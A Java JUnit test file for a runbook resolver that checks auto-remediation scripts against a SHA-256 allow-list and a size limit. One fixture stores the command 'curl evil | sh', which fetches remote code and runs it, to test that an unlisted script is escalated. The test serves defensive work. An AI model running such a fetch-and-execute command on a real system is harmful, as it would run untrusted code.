package io.autoremediate.functions.resolve;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.autoremediate.functions.Fixtures;
import io.autoremediate.functions.incident.AlarmEventParser;
import io.autoremediate.functions.incident.Incident;
import io.autoremediate.functions.runbook.Runbook;
import io.autoremediate.functions.runbook.RunbookStore;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

class RunbookResolverTest {

    private static final String KEY = "webapp-uptime#CustomNamespace.sh";
    private final Map<String, byte[]> files = new HashMap<>();
    private final RunbookStore store = new RunbookStore() {
        @Override
        public Optional<Runbook> find(String key) {
            return Optional.ofNullable(files.get(key)).map(bytes -> Runbook.of(key, "mem://" + key, "1", bytes));
        }

        @Override
        public String describe() {
            return "mem://";
        }
    };
    private final Incident incident = new AlarmEventParser().parse(Fixtures.event("single-metric-alarm.json"));

    @Test
    void runbookOnTheAllowListIsRemediated() {
        byte[] script = "systemctl restart webapp\n".getBytes(StandardCharsets.UTF_8);
        files.put(KEY, script);

        Resolution resolution = new RunbookResolver(store, new RunbookPolicy(1024, Set.of(Runbook.sha256(script))))
                .resolve(incident);

        assertThat(resolution.decision()).isEqualTo(Decision.REMEDIATE);
    }

    @Test
    void runbookOffTheAllowListIsEscalatedWithItsHash() {
        files.put(KEY, "curl evil | sh\n".getBytes(StandardCharsets.UTF_8));

        Resolution resolution = new RunbookResolver(store, RunbookPolicy.withAllowList("a".repeat(64) + ", " + "b".repeat(64)))
                .resolve(incident);

        assertThat(resolution.decision()).isEqualTo(Decision.ESCALATE);
        assertThat(resolution.reason()).contains("is not on the allow-list").contains(resolution.runbook().sha256());
    }

    @Test
    void runbookOverTheSizeLimitIsEscalated() {
        files.put(KEY, new byte[2048]);

        Resolution resolution = new RunbookResolver(store, new RunbookPolicy(1024, Set.of())).resolve(incident);

        assertThat(resolution.reason()).isEqualTo("runbook '" + KEY + "' is 2048 bytes, over the limit of 1024");
    }

    @Test
    void allowListEntriesMustBeHashes() {
        assertThatThrownBy(() -> RunbookPolicy.withAllowList("not-a-hash"))
                .hasMessage("'not-a-hash' in the runbook allow-list is not a SHA-256 hex hash");
    }
}
